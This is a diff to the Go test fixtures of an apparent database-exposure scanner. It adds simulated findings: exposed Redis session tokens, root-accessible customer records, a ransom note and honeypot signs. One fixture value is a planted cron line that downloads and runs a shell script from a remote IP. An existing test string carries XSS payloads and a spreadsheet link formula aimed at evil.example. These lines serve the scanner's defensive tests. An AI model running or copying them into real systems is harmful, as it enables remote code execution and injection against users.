@@ -6,6 +6,7 @@ import (
 
 	"github.com/gownscan/gown"
 	"github.com/gownscan/gown/assess"
+	"github.com/gownscan/gown/internal/testbed"
 	"github.com/gownscan/gown/report"
 )
 
@@ -29,13 +30,15 @@ func fixtureMeta() report.ScanMeta {
 const hostile = `"><script>alert('gown')</script><img src=x onerror=alert(1)> | =HYPERLINK("https://evil.example/x","click") [pwn](https://evil.example/)`
 
 // fixture builds the results of a small realistic scan, in the order the
-// results store walks them (host, port), with findings from assess: an open
-// Redis with keys, an open MariaDB with schemas, a PostgreSQL that asks for a
-// password over plain text, a Redis whose ACL refuses this client, a ransomed
-// open Elasticsearch whose replies carry hostile text, and an unplaceable
-// service.
+// results store walks them (host, port), analysed and graded by assess as
+// a scan does: an open Redis with session tokens and a planted cron job, an
+// open MariaDB logged into as root with customers' personal data, a
+// PostgreSQL that asks for a password over plain text, a Redis whose ACL
+// refuses this client, a ransomed open Elasticsearch whose replies carry
+// hostile text, an unplaceable service, a hostile CouchDB, a MongoDB whose
+// sizes cannot hold its counts and an empty open memcached.
 func fixture() []fixtureEntry {
-	out := append(fixtureSQLAndRedis(), fixtureHostile()...)
+	out := append(append(fixtureSQLAndRedis(), fixtureHostile()...), fixtureStaged()...)
 	entries := make([]fixtureEntry, len(out))
 	for i, r := range out {
 		entries[i] = fixtureEntry{r: r, fs: assess.Findings(r)}
@@ -65,6 +68,12 @@ func fixtureSQLAndRedis() []*gown.Result {
 	redisOpen.Inventory.Add(gown.Database{Name: "db0", Items: 18412})
 	redisOpen.Inventory.Add(gown.Database{Name: "db2", Items: 311})
 	redisOpen.Inventory.Bytes = 24_117_248 // used_memory wins for Redis
+	assess.Analyze(redisOpen, []gown.Sample{
+		{Database: "db0", Key: "session:u1001", Fields: []gown.Field{{Value: testbed.People[0].Token}}},
+		{Database: "db0", Key: "session:u1002", Fields: []gown.Field{{Value: testbed.People[1].Token}}},
+		{Database: "db0", Key: "backup1", Fields: []gown.Field{{Value: "\n\n*/1 * * * * curl -fsSL http://198.51.100.9/init.sh | sh\n\n"}}},
+		{Database: "db2", Key: "cart:7", Fields: []gown.Field{{Value: `{"sku":"MUG-CER-350-BLU","qty":2}`}}},
+	}, false)
 	out = append(out, redisOpen)
 
 	maria := &gown.Result{Target: target("db.shop-api.example", "127.0.0.12", 3306), Store: "mysql", Product: "MariaDB",
@@ -80,6 +89,18 @@ func fixtureSQLAndRedis() []*gown.Result {
 	maria.Inventory.Add(gown.Database{Name: "crm", Items: 2204, Bytes: 1_867_776})
 	maria.Inventory.Add(gown.Database{Name: "shop", Items: 96_310, Bytes: 40_681_472})
 	maria.Inventory.Add(gown.Database{Name: "mysql", Items: 3104, Bytes: 2_523_136, System: true})
+	maria.Detail("login", "root with empty password")
+	var customers []gown.Sample
+	for _, p := range testbed.People {
+		s := gown.Sample{Database: "crm", Collection: "customers", Key: p.ID}
+		for _, f := range p.Fields() {
+			s.Fields = append(s.Fields, gown.Field{Path: f[0], Value: f[1]})
+		}
+		customers = append(customers, s)
+	}
+	customers = append(customers, gown.Sample{Database: "shop", Collection: "products", Key: "1",
+		Fields: []gown.Field{{Path: "sku", Value: "MUG-CER-350-BLU"}, {Path: "name", Value: "Ceramic Mug"}, {Path: "price", Value: "12.90"}}})
+	assess.Analyze(maria, customers, true)
 	out = append(out, maria)
 
 	out = append(out, &gown.Result{Target: target("db.shop-api.example", "127.0.0.12", 5432), Store: "postgres",
@@ -119,6 +140,11 @@ func fixtureHostile() []*gown.Result {
 	es.Inventory.Add(gown.Database{Name: "read_me", Items: 1, Bytes: 5321})
 	es.Inventory.Add(gown.Database{Name: "<img src=x onerror=alert('index')>|x", Items: 3, Bytes: 912})
 	es.Inventory.Add(gown.Database{Name: ".kibana_1", Items: 12, Bytes: 61_440, System: true})
+	assess.Analyze(es, []gown.Sample{
+		{Database: "read_me", Collection: "_doc", Key: "1", Fields: []gown.Field{{Path: "message", Value: testbed.RansomMessage}}},
+		{Database: "customers", Collection: "_doc", Key: "c-88", Fields: []gown.Field{{Path: "contact.email", Value: testbed.People[2].Email},
+			{Path: "contact.phone", Value: testbed.People[2].Phone}, {Path: "geo.lat", Value: testbed.People[2].Lat}, {Path: "geo.lon", Value: testbed.People[2].Lon}}},
+	}, false)
 	out = append(out, es)
 
 	out = append(out, &gown.Result{Target: target("search.shop-api.example", "127.0.0.14", 9300), Status: gown.StatusUnknown,
@@ -137,4 +163,34 @@ func fixtureHostile() []*gown.Result {
 	couch.Inventory.Add(gown.Database{Name: hostile, Items: 77, Bytes: 131_072})
 	out = append(out, couch)
 	return out
+}
+
+// fixtureStaged: a MongoDB whose sizes cannot hold its counts (a honeypot
+// sign) and an open memcached holding nothing.
+func fixtureStaged() []*gown.Result {
+	mongo := &gown.Result{Target: target("legacy.shop-api.example", "127.0.0.16", 27017), Store: "mongodb", Product: "MongoDB",
+		Version: "7.0.14", Status: gown.StatusOpen, Reason: "listDatabases answered without authentication",
+		TLS: gown.TLS{Mode: gown.TLSNone}, Start: at(7), Duration: 15 * time.Millisecond,
+		Evidence: []gown.Evidence{{Step: "listDatabases", Sent: `[OP_MSG] {listDatabases: 1, $db: "admin"}`,
+			Received: `{databases: [{name: "users", sizeOnDisk: 2048}], totalSize: 2048, ok: 1}`}}}
+	mongo.Inventory = &gown.Inventory{}
+	mongo.Inventory.Add(gown.Database{Name: "users", Items: 90_000, Bytes: 2048})
+	assess.Analyze(mongo, nil, false)
+
+	mc := &gown.Result{Target: target("legacy.shop-api.example", "127.0.0.16", 11211), Store: "memcached", Product: "memcached",
+		Version: "1.6.21", Status: gown.StatusOpen, Reason: "stats answered without SASL", TLS: gown.TLS{Mode: gown.TLSNone},
+		Start: at(8), Duration: 4 * time.Millisecond,
+		Evidence: []gown.Evidence{{Step: "stats", Sent: `stats\r\n`, Received: `STAT pid 812\r\nSTAT curr_items 0\r\n…`}}}
+	mc.Inventory = &gown.Inventory{}
+	mc.Inventory.Add(gown.Database{Name: "cache", Items: 0, Bytes: 0})
+	assess.Analyze(mc, nil, false)
+	return []*gown.Result{mongo, mc}
+}
+
+// fixtureApp is an app whose code holds credentials and allows clear
+// text: what assess.AppFindings grades.
+func fixtureApp() *gown.App {
+	return &gown.App{ID: "com.example.shop", File: "shop.apk",
+		Credentials: []gown.Credential{{Rule: "conn-string-password", Value: "[REDACTED]", Host: "db.shop-api.example"}},
+		Cleartext:   []gown.Cleartext{{Policy: "base cleartextTrafficPermitted=true", Endpoints: []string{"http://api.shop-api.example/v1/"}}}}
 }
